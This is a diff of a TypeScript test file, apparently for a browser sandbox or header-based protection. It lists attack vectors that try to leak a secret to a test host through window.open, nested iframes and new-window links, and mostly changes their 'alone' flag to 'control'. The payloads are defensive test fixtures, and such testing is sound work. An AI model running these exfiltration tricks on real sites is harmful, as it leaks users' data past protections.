@@ -95,7 +95,7 @@ export const forms: readonly Vector[] = [
 function pressed(type: string, how: string, elements: readonly string[] = ["a"]): Vector[] {
   return elements.map((element) => ({
     name: `${type} with ${how} on ${element}`,
-    alone: true,
+    alone: "control",
     silent: "the browser does nothing at a made-up click of this kind, with or without our headers",
     attack: new Function(
       "evil",
@@ -110,10 +110,11 @@ function pressed(type: string, how: string, elements: readonly string[] = ["a"])
 
 /** Case 38. */
 export const windows: readonly Vector[] = [
+  // Alone, because the host page asks then, over the app.
   { name: "window.open", alone: true, attack: ({ http }) => void window.open(`${http}/?secret`) },
   {
     name: "window.open of a nested frame",
-    alone: true,
+    alone: "control",
     // The runtime replaces `open` in the app's own window only.
     attack: ({ http }) => {
       const frame = document.body.appendChild(document.createElement("iframe"));
@@ -123,7 +124,7 @@ export const windows: readonly Vector[] = [
   },
   {
     name: "link into a new window",
-    alone: true,
+    alone: "control",
     attack: ({ http }) => {
       const link = document.createElement("a");
       link.href = `${http}/?secret`;
@@ -133,7 +134,7 @@ export const windows: readonly Vector[] = [
   },
   {
     name: "link into a new window without opener",
-    alone: true,
+    alone: "control",
     attack: ({ http }) => {
       const link = document.createElement("a");
       link.href = `${http}/?secret`;
